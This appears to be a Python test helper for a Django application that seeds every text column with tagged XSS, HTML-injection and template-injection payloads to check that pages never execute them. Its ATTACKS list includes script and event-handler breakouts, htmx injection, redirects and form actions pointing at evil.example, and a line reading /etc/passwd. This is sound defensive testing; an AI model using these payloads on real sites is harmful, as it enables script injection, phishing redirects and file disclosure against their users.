"""Hostile text in every field that keeps text, whoever wrote it, past every form that might have refused it.

Each column gets a token of its own ("dhx7k…"), so that a page that shows it tells which column it came from; behind the
token stands an attack. What an attack must never do is in `pages_reading`.
"""

import itertools
import json
import re
from dataclasses import dataclass
from random import Random
from typing import Any

from django.apps import apps
from django.db import IntegrityError, models, transaction

from core.sealed import SealedTextField

# What a browser would run: `boom` notes it (pages_reading). {t} is the token, {n} its number.
ATTACKS = (
    '{t}"><img src=x onerror=boom({n})>', "{t}'><svg/onload=boom({n})>", "{t}<script>boom({n})</script>",
    "{t}</script><script>boom({n})</script>", "{t}</textarea><x-dh onclick=boom({n}) autofocus tabindex=1>",
    "{t}</title></style><x-dh>{n}</x-dh>", "{t}<iframe srcdoc='<script>parent.boom({n})</script>'>",
    '{t}" autofocus onfocus="boom({n})', "{t}' autofocus onfocus='boom({n})", "{t}` onmouseover=boom({n}) `",
    '{t}" hx-get="/boom?{n}" hx-trigger="load" x="', "{t}<b hx-get=/boom?{n} hx-trigger=load hx-swap=outerHTML>",
    '{t}<i hx-on:click="boom({n})" hx-vals="js:{{a:boom({n})}}">', "{t}<form action=//evil.example/{n}><input name=x>",
    "{t}<base href=//evil.example/{n}>", "{t}<link rel=stylesheet href=//evil.example/{n}.css>",
    "{t}<meta http-equiv=refresh content=0;url=//evil.example/{n}>", "{t}<a href=javascript:boom({n})>x</a>",
    "javascript:boom({n})//{t}", "{t}<math><mtext></p><x-dh onclick=boom({n})></math>",
    "{t}<!--><x-dh onclick=boom({n})>-->", "{t}{{{{ boom({n}) }}}}{{% x %}}", "{t}&lt;script&gt;boom({n})&#60;&#x3c;",
    "{t}\u2028\u202e<x-dh onclick=boom({n})>\u202c", "{t}\uff1cscript\uff1eboom({n})\u02ba\u02b9",
    '{t}#panic("{n}") #read("/etc/passwd") $x$ *b* _i_ @a <l> \\', '{t}#image("http://127.0.0.1:9/{n}") [x] `c` //',
    "{t}{{{{ 7*7 }}}}{{% for a in b %}}<w:p>{n}</w:p>", "{t}${{7*7}}<%= boom({n}) %>\\u003cscript\\u003e",
    "{t}\"'><x-dh style='background:url(//evil.example/{n})'>",
)  # fmt: skip
SHORT = ('{t}"<x-dh>', "{t}'<x-dh>", "{t}<x-dh ", '{t}" hx-on=', "{t}&lt;")
LEAST = len("dhx000z")

# Written by the machine or looked up by it: they stand in no form, or only as a choice among given ones.
KEYS = {
    "accounts.User": "password username sort_name", "accounts.Unit": "code path name_folded kind",
    "core.Proposal": "model parent_model action role", "core.Draft": "form",
    "audit.Event": "prev hash verb subject_model source target reason data",
    "audit.ReadLog": "*", "audit.ChainHead": "*",
    "catalogue.ClientGroup": "code", "catalogue.ServiceType": "code", "catalogue.ClosureCode": "code requires",
    "clock.CalendarDay": "effect kind", "clock.Parameter": "code value",
    "documents.Document": "root_model subject_model path sha256 mime",
    "places.Province": "code name_folded", "places.ProvinceChange": "old_code old_name_folded",
    "places.Commune": "code name_folded", "places.CommuneChange": "old_code old_name_folded",
    "worklist.WorkItem": "*", "worklist.Notice": "*", "api.ApiToken": "prefix digest scopes",
    "facilities.OutsideBody": "name_folded", "facilities.AuthorityGroup": "code",
    "facilities.Norm": "code metric legal_kind ownership zone care_group",
    "facilities.ChecklistItem": "code legal_kind metric", "facilities.InspectionAnswer": "code",
    "facilities.Finding": "code", "casework.AssessmentTool": "code",
    "casework.Case": "held_from review_from hold_reason closure_reason needs selection dangers number",
    "casework.FollowUp": "result", "casework.ImportBatch": "sha256", "casework.ImportRow": "fingerprint",
    "casework.Person": "name_folded sort_name id_index import_key", "casework.ServicePlan": "reason",
    "referrals.Referral": "decline_code next_step number sections",
    "accreditation.Application": "number receipt_number",
    "accreditation.ApplicationPaper": "component", "accreditation.Defect": "component condition",
    "accreditation.ConditionAnswer": "code", "accreditation.Licence": "suspended_from revoked_from code limit_groups",
    "accreditation.LicenceGroup": "code", "accreditation.RegisterList": "sha256",
    "accreditation.RegisterRow": "fingerprint", "accreditation.Procedure": "code competent",
    "accreditation.ProcedureComponent": "procedure code when template",
    "facilities.Incident": "number", "facilities.Inspection": "number", "mfa.Authenticator": "*",
    "usersessions.UserSession": "session_key data", "catalogue.ReferenceFile": "*",
}  # fmt: skip
# Tables of Django and its packages that keep no text of ours.
FOREIGN = {"auth", "contenttypes", "sessions", "guardian", "account", "django_tasks_database"}
_HUMAN = re.compile(r"\s|[^\x00-\x7f]")


@dataclass(frozen=True)
class Mark:
    """What stands in one column."""

    label: str
    field: str  # in JSON with the way to the sentence: "answers.note"
    token: str
    text: str
    sealed: bool
    key: Any = None  # of the row, where the token stands in one alone

    @property
    def column(self) -> str:
        return f"{self.label}.{self.field}"


def text_columns() -> list[tuple[type[models.Model], Any]]:
    """(model, field) of every column that keeps text of people."""
    found = []
    for model in apps.get_models():
        keys = KEYS.get(model._meta.label, "").split()
        if model._meta.app_label in FOREIGN or keys == ["*"]:
            continue
        for field in model._meta.concrete_fields:
            kinds = (models.CharField, models.TextField, models.JSONField)
            if isinstance(field, kinds) and not field.choices and field.name not in keys:
                found.append((model, field))
    return found


class Poison:
    """`Poison(seed).into_everything()` fills the tables that have rows and gives the marks it set, by token."""

    def __init__(self, seed: int):
        self.random = Random(seed)
        self.numbers = itertools.count(1)
        self.order = list(ATTACKS)
        self.random.shuffle(self.order)
        self.marks: dict[str, Mark] = {}

    def into_everything(self) -> dict[str, Mark]:
        for model, field in text_columns():
            rows = list(model._base_manager.all())
            if rows:
                self._column(model, field, rows)
        return self.marks

    def mark(self, label: str, field: Any, name: str = "", key: Any = None) -> Mark:
        number = next(self.numbers)
        token = f"dhx{_base36(number)}z"
        room = getattr(field, "max_length", None) or 4000
        text = self.order[number % len(self.order)].format(t=token, n=number)
        if isinstance(field, models.URLField):
            text = f"javascript:boom({number})//{token}"
        if len(text) > room:
            text = SHORT[number % len(SHORT)].format(t=token)[:room]
        made = Mark(label, name or field.name, token, text, isinstance(field, SealedTextField), key)
        if len(text) >= LEAST:
            self.marks[token] = made
        return made

    def _column(self, model: Any, field: Any, rows: list[Any]) -> None:
        label = model._meta.label
        sealed = isinstance(field, SealedTextField)
        as_json = isinstance(field, models.JSONField)
        if as_json or sealed and _json(getattr(rows[0], field.name)) is not None:
            self._inside(model, field, rows)
            return
        each = field.unique or sealed
        mark = None if each else self.mark(label, field)
        if mark is not None and _written(model, {"pk__isnull": False}, {field.name: mark.text}):
            return
        self.marks.pop(mark.token if mark else "", None)
        for row in rows:  # a name that must differ from row to row
            mark = self.mark(label, field, key=row.pk)
            if sealed:
                setattr(row, field.name, mark.text)
                row.save(update_fields=[field.name])
            elif not _written(model, {"pk": row.pk}, {field.name: mark.text}):
                raise AssertionError(f"{mark.column} takes no text: say in KEYS why")

    def _inside(self, model: Any, field: Any, rows: list[Any]) -> None:
        """JSON: its sentences, not its keys and codes."""
        for row in rows:
            value = getattr(row, field.name)
            sealed = isinstance(value, str)
            content = json.loads(value) if sealed and value else value
            changed = self._leaves(content, model._meta.label, field, field.name, row.pk)
            if sealed and value:
                setattr(row, field.name, json.dumps(changed, ensure_ascii=False))
                row.save(update_fields=[field.name])
            elif not sealed:
                model._base_manager.filter(pk=row.pk).update(**{field.name: changed})

    def _leaves(self, value: Any, label: str, field: Any, name: str, key: Any) -> Any:
        if isinstance(value, dict):
            return {word: self._leaves(one, label, field, f"{name}.{word}", key) for word, one in value.items()}
        if isinstance(value, list):
            return [self._leaves(one, label, field, name, key) for one in value]
        if isinstance(value, str) and _HUMAN.search(value):
            return self.mark(label, field, name, key).text
        return value


def _written(model: Any, which: dict[str, Any], what: dict[str, Any]) -> bool:
    try:
        with transaction.atomic():
            model._base_manager.filter(**which).update(**what)
    except IntegrityError:
        return False
    return True


def _json(value: str) -> Any:
    try:
        found = json.loads(value)
    except (TypeError, ValueError):
        return None
    return found if isinstance(found, dict | list) else None


def _base36(number: int) -> str:
    digits = ""
    for _place in range(3):
        number, rest = divmod(number, 36)
        digits = "0123456789abcdefghijklmnopqrstuvwxyz"[rest] + digits
    return digits
